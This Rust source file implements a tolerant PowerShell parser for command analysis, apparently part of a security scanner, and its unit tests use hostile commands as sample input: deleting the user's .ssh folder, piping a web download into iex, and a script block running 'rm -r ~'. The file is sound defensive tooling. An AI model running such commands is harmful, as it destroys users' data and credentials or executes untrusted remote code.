//! A reader for PowerShell, made for the analysis: statements, pipelines, command words
//! with PowerShell's quoting (`'…'` literal, `"…"` with `$var`, `$(…)` and backtick escapes,
//! here-strings), sub-expressions and script blocks, assignments, and expression statements
//! (`[IO.File]::ReadAllText(…)`, `(Get-Date).ToString()`) given as text for the code analysis.
//! It never fails: what it cannot place is a literal word.

use crate::code::lex::pwsh::{backtick, skip_group};

/// One part of a command word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Part {
    Lit(String),
    /// `$name`, `${name}`, `$env:NAME` (the name as written, without `$`).
    Var(String),
    /// `$(…)`, `(…)`, `@(…)`: statements run for their output.
    Sub(String),
    /// `{…}`: a script block (it may run).
    Block(String),
}

#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Word {
    pub parts: Vec<Part>,
    /// The word as written.
    pub raw: String,
    /// It follows a comma: another element of the previous word's array (`-ArgumentList
    /// 'a','b'`).
    pub element: bool,
    /// Quoted (no parameter name, no wildcard).
    pub quoted: bool,
}

impl Word {
    /// The literal text when the word has no expansions.
    pub fn literal(&self) -> Option<String> {
        let mut s = String::new();
        for p in &self.parts {
            match p {
                Part::Lit(t) => s.push_str(t),
                _ => return None,
            }
        }
        Some(s)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Stage {
    /// A command and its arguments.
    Cmd(Vec<Word>),
    /// `$name = EXPR` (the expression as text).
    Assign(String, String),
    /// An expression statement, as text.
    Expr(String),
}

/// Statements, each a pipeline of stages.
pub fn parse(src: &str) -> Vec<Vec<Stage>> {
    let b = src.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let (pipeline, next) = pipeline(src, i);
        if !pipeline.is_empty() {
            out.push(pipeline);
        }
        i = next.max(i + 1);
    }
    out
}

fn at(b: &[u8], i: usize) -> u8 {
    b.get(i).copied().unwrap_or(0)
}

/// A here-string `@'…'@` or `@"…"@` starting at `i`: (body, index after it).
fn here_string(src: &str, i: usize) -> Option<(&str, usize, bool)> {
    let b = src.as_bytes();
    let q = at(b, i + 1);
    if at(b, i) != b'@' || !(q == b'\'' || q == b'"') {
        return None;
    }
    let close = if q == b'\'' { "\n'@" } else { "\n\"@" };
    let start = src.get(i + 2..)?.find('\n').map(|k| i + 2 + k + 1)?;
    let end = src.get(start..)?.find(close).map(|k| start + k)?;
    Some((
        src.get(start..end).unwrap_or(""),
        end + close.len(),
        q == b'"',
    ))
}

fn pipeline(src: &str, mut i: usize) -> (Vec<Stage>, usize) {
    let b = src.as_bytes();
    let mut stages = Vec::new();
    loop {
        // Blank space and comments before a stage.
        loop {
            while matches!(at(b, i), b' ' | b'\t' | b'\r') {
                i += 1;
            }
            if at(b, i) == b'<' && at(b, i + 1) == b'#' {
                i = src
                    .get(i..)
                    .and_then(|r| r.find("#>"))
                    .map_or(b.len(), |k| i + k + 2);
                continue;
            }
            if at(b, i) == b'#' {
                while i < b.len() && at(b, i) != b'\n' {
                    i += 1;
                }
            }
            if at(b, i) == b'`' && matches!(at(b, i + 1), b'\n' | b'\r') {
                i += 2;
                continue;
            }
            break;
        }
        if i >= b.len() || matches!(at(b, i), b'\n' | b';') {
            return (stages, i + 1);
        }
        let (stage, next) = stage(src, i);
        stages.push(stage);
        i = next;
        match (at(b, i), at(b, i + 1)) {
            (b'|', b'|') | (b'&', b'&') => return (stages, i + 2),
            (b'|', _) => i += 1,
            _ => return (stages, i + 1),
        }
    }
}

/// The end of the statement text starting at `i` (at `;`, a newline, `|` outside groups).
fn stage_end(b: &[u8], mut i: usize) -> usize {
    while i < b.len() {
        match at(b, i) {
            b'\n' | b';' | b'|' => return i,
            b'&' if at(b, i + 1) == b'&' => return i,
            b'`' => i += 2,
            b'\'' | b'"' | b'(' | b'{' | b'[' => i = skip_group(b, i),
            b'@' if matches!(at(b, i + 1), b'\'' | b'"') => {
                // A here-string runs to its closing line.
                let q = at(b, i + 1);
                let close: &[u8] = if q == b'\'' { b"\n'@" } else { b"\n\"@" };
                let mut j = i + 2;
                while j + close.len() <= b.len() && b.get(j..j + close.len()) != Some(close) {
                    j += 1;
                }
                i = (j + close.len()).min(b.len());
            }
            _ => i += 1,
        }
    }
    b.len()
}

fn stage(src: &str, i: usize) -> (Stage, usize) {
    let b = src.as_bytes();
    let end = stage_end(b, i);
    let text = src.get(i..end).unwrap_or("").trim_end();
    let c = at(b, i);
    // `$x = …`, `$x += …`, `[string]$x = …`.
    if c == b'$' || (c == b'[' && text.contains("]$")) {
        let name_start = text.find('$').map_or(0, |k| k + 1);
        let rest = text.get(name_start..).unwrap_or("");
        let name_len = rest
            .find(|ch: char| !(ch.is_ascii_alphanumeric() || ch == '_' || ch == ':'))
            .unwrap_or(rest.len());
        let after = rest.get(name_len..).unwrap_or("").trim_start();
        let op = ["+=", "-=", "*=", "="]
            .into_iter()
            .find(|op| after.starts_with(op) && !after.starts_with("=="));
        if let Some(op) = op {
            let name = rest.get(..name_len).unwrap_or("").to_owned();
            let value = after.get(op.len()..).unwrap_or("").trim().to_owned();
            return (Stage::Assign(name, value), end);
        }
    }
    // An expression: a variable, a type, a parenthesised or quoted value, a number.
    if matches!(
        c,
        b'$' | b'[' | b'(' | b'\'' | b'"' | b'@' | b'0'..=b'9' | b'-' | b'!'
    ) && !(c == b'-' && at(b, i + 1).is_ascii_alphabetic())
    {
        return (Stage::Expr(text.to_owned()), end);
    }
    (Stage::Cmd(words(src, i, end)), end)
}

/// The words of a command between `i` and `end`.
pub fn words(src: &str, mut i: usize, end: usize) -> Vec<Word> {
    let b = src.as_bytes();
    let mut out = Vec::new();
    while i < end {
        // A newline here sits inside a group the stage could not close.
        while i < end && matches!(at(b, i), b' ' | b'\t' | b'\r' | b'\n') {
            i += 1;
        }
        if at(b, i) == b'`' && matches!(at(b, i + 1), b'\n' | b'\r') {
            i += 2;
            continue;
        }
        if i >= end {
            break;
        }
        if at(b, i) == b'#' {
            break;
        }
        let mut w = Word::default();
        let mut lit = String::new();
        let word_start = i;
        while i < end && !matches!(at(b, i), b' ' | b'\t' | b'\r' | b'\n') {
            let c = at(b, i);
            match c {
                b'\'' => {
                    let j = skip_group(b, i).min(end);
                    let inner = src.get(i + 1..j.saturating_sub(1)).unwrap_or("");
                    lit.push_str(&inner.replace("''", "'"));
                    w.quoted = true;
                    i = j;
                }
                b'"' => {
                    let j = skip_group(b, i).min(end);
                    let inner = src.get(i + 1..j.saturating_sub(1)).unwrap_or("");
                    flush(&mut lit, &mut w);
                    expandable(inner, &mut w);
                    w.quoted = true;
                    i = j;
                }
                b'@' if matches!(at(b, i + 1), b'\'' | b'"') => {
                    match here_string(src, i) {
                        Some((body, j, expand)) => {
                            if expand {
                                flush(&mut lit, &mut w);
                                expandable(body, &mut w);
                            } else {
                                lit.push_str(body);
                            }
                            i = j.min(end);
                        }
                        None => {
                            lit.push('@');
                            i += 1;
                        }
                    }
                    w.quoted = true;
                }
                b'$' if at(b, i + 1) == b'(' => {
                    let j = skip_group(b, i + 1).min(end);
                    flush(&mut lit, &mut w);
                    w.parts.push(Part::Sub(
                        src.get(i + 2..j.saturating_sub(1)).unwrap_or("").into(),
                    ));
                    i = j;
                }
                b'@' | b'(' if at(b, if c == b'@' { i + 1 } else { i }) == b'(' => {
                    let open = if c == b'@' { i + 1 } else { i };
                    let j = skip_group(b, open).min(end);
                    flush(&mut lit, &mut w);
                    w.parts.push(Part::Sub(
                        src.get(open + 1..j.saturating_sub(1)).unwrap_or("").into(),
                    ));
                    i = j;
                }
                b'{' => {
                    let j = skip_group(b, i).min(end);
                    flush(&mut lit, &mut w);
                    w.parts.push(Part::Block(
                        src.get(i + 1..j.saturating_sub(1)).unwrap_or("").into(),
                    ));
                    i = j;
                }
                b'$' => {
                    let (name, j) = variable(src, i);
                    if name.is_empty() {
                        lit.push('$');
                        i += 1;
                    } else {
                        flush(&mut lit, &mut w);
                        w.parts.push(Part::Var(name));
                        i = j;
                    }
                }
                b'`' => {
                    if let Some(ch) = src.get(i + 1..).and_then(|r| r.chars().next()) {
                        lit.push(backtick(ch));
                        i += 1 + ch.len_utf8();
                    } else {
                        i += 1;
                    }
                }
                b',' => {
                    // An array argument: its elements are separate values.
                    flush(&mut lit, &mut w);
                    if !w.parts.is_empty() {
                        w.raw = src.get(word_start..i).unwrap_or("").to_owned();
                        out.push(std::mem::take(&mut w));
                    }
                    w.element = true;
                    i += 1;
                }
                _ => {
                    let ch = src.get(i..).and_then(|r| r.chars().next()).unwrap_or(' ');
                    lit.push(ch);
                    i += ch.len_utf8();
                }
            }
        }
        flush(&mut lit, &mut w);
        if !w.parts.is_empty() {
            w.raw = src.get(word_start..i.min(end)).unwrap_or("").to_owned();
            out.push(w);
        }
        if i == word_start {
            // Nothing this loop can read: never stay in place.
            i += 1;
        }
    }
    out
}

fn flush(lit: &mut String, w: &mut Word) {
    if !lit.is_empty() {
        w.parts.push(Part::Lit(std::mem::take(lit)));
    }
}

/// `$name`, `${name}`, `$env:NAME`, `$script:x`: (name, index after it).
fn variable(src: &str, i: usize) -> (String, usize) {
    let b = src.as_bytes();
    if at(b, i + 1) == b'{' {
        let end = src
            .get(i + 2..)
            .and_then(|r| r.find('}'))
            .map_or(b.len(), |k| i + 2 + k);
        return (
            src.get(i + 2..end).unwrap_or("").to_owned(),
            (end + 1).min(b.len()),
        );
    }
    let mut j = i + 1;
    while j < b.len() {
        let c = at(b, j);
        if c.is_ascii_alphanumeric() || c == b'_' || c == b'?' || c == b'^' {
            j += 1;
        } else if c == b':' && j > i + 1 && at(b, j + 1).is_ascii_alphabetic() {
            // A scope or drive qualifier: `$env:HOME`.
            j += 1;
        } else {
            break;
        }
    }
    (src.get(i + 1..j).unwrap_or("").to_owned(), j)
}

/// The inside of a `"…"` string: literal text, variables and sub-expressions.
fn expandable(s: &str, w: &mut Word) {
    let b = s.as_bytes();
    let mut lit = String::new();
    let mut i = 0;
    while i < b.len() {
        match at(b, i) {
            b'`' => {
                if let Some(ch) = s.get(i + 1..).and_then(|r| r.chars().next()) {
                    lit.push(backtick(ch));
                    i += 1 + ch.len_utf8();
                } else {
                    i += 1;
                }
            }
            b'"' if at(b, i + 1) == b'"' => {
                lit.push('"');
                i += 2;
            }
            b'$' if at(b, i + 1) == b'(' => {
                let j = skip_group(b, i + 1);
                flush(&mut lit, w);
                w.parts.push(Part::Sub(
                    s.get(i + 2..j.saturating_sub(1)).unwrap_or("").into(),
                ));
                i = j;
            }
            b'$' => {
                let (name, j) = variable(s, i);
                if name.is_empty() {
                    lit.push('$');
                    i += 1;
                } else {
                    flush(&mut lit, w);
                    w.parts.push(Part::Var(name));
                    i = j;
                }
            }
            _ => {
                let ch = s.get(i..).and_then(|r| r.chars().next()).unwrap_or(' ');
                lit.push(ch);
                i += ch.len_utf8();
            }
        }
    }
    flush(&mut lit, w);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmd(src: &str) -> Vec<Word> {
        match parse(src)
            .into_iter()
            .next()
            .and_then(|p| p.into_iter().next())
        {
            Some(Stage::Cmd(w)) => w,
            other => panic!("not a command: {other:?}"),
        }
    }

    #[test]
    fn words_quotes_and_variables() {
        let w = cmd(r#"Remove-Item -Recurse -Force "$env:USERPROFILE\.ssh" 'it''s'"#);
        assert_eq!(w.len(), 5);
        assert_eq!(w[0].literal().as_deref(), Some("Remove-Item"));
        assert_eq!(
            w[3].parts,
            vec![
                Part::Var("env:USERPROFILE".into()),
                Part::Lit(r"\.ssh".into())
            ]
        );
        assert_eq!(w[4].literal().as_deref(), Some("it's"));
    }

    #[test]
    fn statements_pipelines_and_expressions() {
        let p = parse("$d = (Get-Date).ToString('yyyy'); iwr http://x | iex\nnpm run build");
        assert_eq!(p.len(), 3);
        assert!(matches!(&p[0][0], Stage::Assign(n, v) if n == "d" && v.starts_with("(Get-Date)")));
        assert_eq!(p[1].len(), 2);
        assert!(matches!(&p[2][0], Stage::Cmd(w) if w.len() == 3));
        let e = parse("[IO.File]::ReadAllText('x')");
        assert!(matches!(&e[0][0], Stage::Expr(t) if t.starts_with("[IO.File]")));
    }

    #[test]
    fn sub_expressions_and_blocks() {
        let w = cmd("Invoke-Command -ScriptBlock { rm -r ~ } -ArgumentList $(gc x)");
        assert!(w
            .iter()
            .any(|w| w.parts == vec![Part::Block(" rm -r ~ ".into())]));
        assert!(w.iter().any(|w| w.parts == vec![Part::Sub("gc x".into())]));
    }

    #[test]
    fn never_panics_on_fragments() {
        for s in [
            "\"", "'", "$(", "@'", "@\"\n", "{", "`", "$", "${", "[", "a |", "| b", "&&",
        ] {
            let _ = parse(s);
        }
    }
}
